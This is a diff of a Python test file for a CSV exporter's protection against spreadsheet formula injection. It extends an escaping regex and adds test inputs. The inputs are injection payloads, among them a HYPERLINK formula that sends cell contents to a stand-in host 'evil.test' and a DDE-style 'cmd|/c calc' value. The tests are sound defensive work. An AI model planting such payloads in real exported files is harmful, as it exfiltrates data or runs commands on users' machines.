@@ -14,7 +14,9 @@ from hypothesis import strategies as st
 
 from worker.deliver.csv import FORMULA, to_header, to_lines
 
-PIECE_MARK = re.compile("(?<=[;\t\r\n])'(?='*[ \ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20])|(?<=;)'(?='*[ \ufeff]*[\t\r])")
+PIECE_MARK = re.compile(
+    "(?<=[;\t\r\n])'(?='*[ \u00a0\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20])|(?<=;)'(?='*[ \u00a0\ufeff]*[\t\r])"
+)
 """The marks of pieces, each of which taken off once gives back the text."""
 
 COLUMNS = {
@@ -40,7 +42,7 @@ def written(title: str) -> str:
     "title",
     [
         "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\ufeff=1", "\u00a0=1", ";=1", "\n=1", "\uff1d1+1",
-        "'=1", "''@x", "\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
+        "'=1", "''@x", "\tx", "\u00a0\r", " \u00a0\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
     ],
 )  # fmt: skip
 def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else(title: str) -> None:
@@ -64,6 +66,7 @@ def test_taking_one_apostrophe_off_gives_back_what_was_there(title: str) -> None
     "title",
     [
         "a;=1", "a;b; =1", "a;\t=1", "a\t=1", "a\n=1+1", "a\r\n-1", 'a;@x"', "a;;=1", "a;'=1", "a; \ufeff+1",
+        "a;\u00a0=1", "a;\u00a0\r",
         "a;\uff1d1", "a;\tx",
         'he said "x;=cmd|/c calc"',
     ],
